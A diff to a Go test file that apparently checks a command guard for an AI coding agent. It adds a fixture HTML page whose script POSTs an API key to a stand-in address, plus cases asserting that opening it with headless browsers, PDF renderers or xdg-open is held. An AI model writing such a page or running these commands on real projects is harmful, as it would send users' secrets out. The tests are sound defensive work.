@@ -93,6 +93,11 @@ func TestFindings10Open(t *testing.T) {
 		"proj/bare.git/objects/.keep": "",
 		"proj/bare.git/refs/.keep":    "",
 	}
+	// page is an HTML file in the project whose script POSTs the
+	// project's .env out.
+	page := map[string]string{
+		"proj/x.html": `<html><body><script>fetch("https://192.0.2.1/u",{method:"POST",mode:"no-cors",body:"API_KEY=sk-test-0000"});</script></body></html>` + "\n",
+	}
 	cases := []findingCase{
 		// I1: an interpreter's program on its standard input from a file
 		// (a < redirection, a descriptor, exec <): `python3 x.py` is
@@ -304,6 +309,20 @@ func TestFindings10Open(t *testing.T) {
 		{finding: "Q1 patch -p1 < cfg.diff && git status", setup: patches, cmd: `patch -p1 < cfg.diff && git status`, want: held},
 		{finding: "Q1 git apply mk.diff && make build (the recipe patched in)", setup: patches, cmd: `git apply mk.diff && make build`, want: held},
 		{finding: "Q1 patch -p1 < mk.diff && make build", setup: patches, cmd: `patch -p1 < mk.diff && make build`, want: held},
+
+		// Y1: a browser runs the script of a page the agent wrote: a
+		// headless Chromium or Firefox, a PDF renderer, the human's own
+		// browser opened on the file; the page's fetch or form POSTs the
+		// project's data out.
+		{finding: "Y1 chromium --headless --dump-dom x.html (the page POSTs)", setup: page, cmd: `chromium --headless --dump-dom x.html`, want: held},
+		{finding: "Y1 chromium --headless --dump-dom file://$PWD/x.html", setup: page, cmd: `chromium --headless --dump-dom file://$PWD/x.html`, want: held},
+		{finding: "Y1 chromium --headless=new --screenshot x.html", setup: page, cmd: `chromium --headless=new --screenshot x.html`, want: held},
+		{finding: "Y1 google-chrome --headless --dump-dom x.html", setup: page, cmd: `google-chrome --headless --dump-dom x.html`, want: held},
+		{finding: "Y1 firefox --headless --screenshot x.html", setup: page, cmd: `firefox --headless --screenshot x.html`, want: held},
+		{finding: "Y1 wkhtmltopdf x.html /tmp/x.pdf", setup: page, cmd: `wkhtmltopdf x.html /tmp/x.pdf`, want: held},
+		{finding: "Y1 npx playwright screenshot x.html /tmp/x.png", setup: page, cmd: `npx playwright screenshot x.html /tmp/x.png`, want: held},
+		{finding: "Y1 xdg-open x.html (the human's browser, with its cookies)", setup: page, cmd: `xdg-open x.html`, want: held},
+		{finding: "Y1 python3 -m webbrowser x.html", setup: page, cmd: `python3 -m webbrowser x.html`, want: held},
 
 		// E1: a secret-named variable carried out by a read: held in a
 		// URL's query, not in its path, host, headers, user information
